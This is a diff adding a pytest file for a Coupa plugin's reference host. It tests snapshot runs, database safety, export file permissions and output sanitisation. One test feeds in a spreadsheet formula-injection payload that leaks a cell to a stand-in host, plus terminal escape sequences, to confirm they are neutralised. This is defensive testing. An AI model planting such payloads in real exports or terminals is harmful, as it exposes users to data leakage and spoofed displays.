@@ -1,0 +1,106 @@
+"""The reference host's files and outputs as a reviewer meets them: partial runs never taken
+for the whole tenant, other programs' databases left alone, outputs that cannot act on a
+terminal or a spreadsheet, private files, and exports that scale."""
+
+from __future__ import annotations
+
+import csv
+import io
+import sqlite3
+import stat
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from coupa_plugin.host.errors import ConfigurationError
+from coupa_plugin.host.model import Grant, Resource, SyncRequest
+from coupa_plugin.refhost.cli import main
+from coupa_plugin.refhost.reports import write_export, write_rows
+from coupa_plugin.refhost.snapshot import SnapshotStore
+
+
+def _user(uid: str, name: str = "A User") -> Resource:
+    return Resource(
+        type="user",
+        id=uid,
+        display_name=name,
+        status="enabled",
+        profile={"login": f"u{uid}", "active": True},
+    )
+
+
+def _run(store: SnapshotStore, request: SyncRequest, users: list[Resource]) -> None:
+    with store.run("t", "p", request, None) as writer:
+        for user in users:
+            writer.add_resource(user)
+            writer.add_grant(Grant(entitlement_id="role:2:member", principal_id=user.id))
+
+
+def test_runs_narrowed_by_type_never_count_as_the_previous_full_run(tmp_path: Path) -> None:
+    with SnapshotStore(tmp_path / "s.sqlite") as store:
+        _run(store, SyncRequest(), [_user("1"), _user("2")])
+        _run(store, SyncRequest(resource_types=frozenset({"role"})), [])
+        _run(store, SyncRequest(), [_user("1"), _user("2")])
+        earlier = store.complete_before("t", "p", 3)
+    assert [r.run_id for r in earlier] == [1], "the --type run is no baseline"
+
+
+def test_another_programs_database_is_left_untouched(tmp_path: Path) -> None:
+    path = tmp_path / "other.sqlite"
+    with sqlite3.connect(path) as conn:
+        conn.execute("CREATE TABLE foo (x)")
+    path.chmod(0o644)
+    before = path.read_bytes()
+    with pytest.raises(ConfigurationError, match="not a snapshot file"):
+        SnapshotStore(path)
+    result = CliRunner().invoke(main, ["runs", "--snapshot", str(path)])
+    assert result.exit_code == 3 and "not a snapshot file" in result.output
+    assert path.read_bytes() == before and stat.S_IMODE(path.stat().st_mode) == 0o644
+    assert not path.with_name("other.sqlite-wal").exists()
+
+
+def test_an_export_finds_each_accounts_grants_by_index(tmp_path: Path) -> None:
+    with SnapshotStore(tmp_path / "s.sqlite") as store:
+        _run(store, SyncRequest(), [_user("1")])
+        plan = " ".join(
+            str(row["detail"])
+            for row in store.query(
+                "EXPLAIN QUERY PLAN SELECT * FROM grants WHERE run_id = 1 AND principal_id = '1'"
+            )
+        )
+    assert "grants_by_principal" in plan, plan
+
+
+def test_outputs_neither_run_formulas_nor_reach_the_terminal(tmp_path: Path) -> None:
+    rows = [{"name": '=HYPERLINK("http://x/?"&A1,"click")', "other": "Nia \x1b]0;PWNED\x07"}]
+    out = io.StringIO()
+    write_rows(rows, ["name", "other"], "csv", out)
+    (_header, row) = list(csv.reader(io.StringIO(out.getvalue())))
+    assert row[0].startswith("'=") and "\x1b" not in row[1] and "\x07" not in row[1]
+    table = io.StringIO()
+    write_rows([{"name": "[bold]x\u202e", "other": "\x1b[2J"}], ["name", "other"], "table", table)
+    assert "\x1b" not in table.getvalue() and "\u202e" not in table.getvalue()
+    assert "[bold]x" in table.getvalue(), "data is never read as markup"
+    with SnapshotStore(tmp_path / "s.sqlite") as store:
+        _run(store, SyncRequest(), [_user("1", name="@SUM(A1:A9)")])
+        export = io.StringIO()
+        write_export(store, 1, "csv", export)
+    assert "'@SUM(A1:A9)" in export.getvalue()
+
+
+def test_exports_and_reports_are_private_files(tmp_path: Path) -> None:
+    snapshot = tmp_path / "s.sqlite"
+    with SnapshotStore(snapshot) as store:
+        _run(store, SyncRequest(), [_user("1"), _user("2")])
+    out = tmp_path / "export.csv"
+    out.write_text("old")
+    out.chmod(0o644)
+    args = ["--snapshot", str(snapshot), "--tenant", "t", "--plugin", "p"]
+    result = CliRunner().invoke(main, ["export", *args, "--output", str(out)])
+    assert result.exit_code == 0, result.output
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "old" not in out.read_text()
+    html = tmp_path / "review.html"
+    result = CliRunner().invoke(main, ["report", *args, "--output", str(html)])
+    assert result.exit_code == 0, result.output
+    assert stat.S_IMODE(html.stat().st_mode) == 0o600
